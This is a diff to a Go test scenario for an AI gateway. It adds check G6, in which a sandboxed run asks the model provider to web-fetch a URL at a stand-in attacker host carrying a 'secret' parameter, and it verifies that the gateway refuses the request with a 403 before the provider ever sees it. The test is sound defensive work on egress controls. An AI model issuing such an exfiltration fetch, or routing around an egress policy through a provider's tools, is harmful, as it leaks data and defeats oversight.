@@ -107,6 +107,27 @@ func (g *gatewayScenario) run(ctx context.Context) {
 	found := g.tokensInObjects(ctx, string(tok1), string(tok2))
 	g.line("G5", "no gateway token in any Sandbox, SandboxClaim or Pod object", found == "", orNone(found), "a token was written into the cluster")
 
+	// G6: run 3 asks the provider to fetch a URL for it: a way out around
+	// the egress policy, refused before the provider sees it.
+	before, _, err := g.seen(ctx)
+	if err != nil {
+		g.failErr("G6", "what the provider stand-in received", err)
+		return
+	}
+	r3, err := sb.exec(ctx, g.custodyBin, g.custody, "run-3", "-web-fetch", "https://exfil.attacker.example/?d=secret")
+	if err != nil {
+		g.failErr("G6", "custody exec run 3", err)
+		return
+	}
+	after, _, err := g.seen(ctx)
+	if err != nil {
+		g.failErr("G6", "what the provider stand-in received", err)
+		return
+	}
+	g.line("G6", "run 3 asks the provider to fetch an attacker's URL for it (web fetch tool): refused, the provider never sees it",
+		r3.ExitCode == 0 && strings.HasPrefix(r3.Stdout, "403 provider-run tool not allowed for provider anthropic: /tools/0 type web_fetch_20250910") && len(after) == len(before),
+		r3.Stdout, "want 403 provider-run tool not allowed, and no request at the provider")
+
 	fmt.Println()
 	fmt.Println("== budgets: checked before a call leaves custody, settled from the provider's usage")
 	g.budget(ctx)
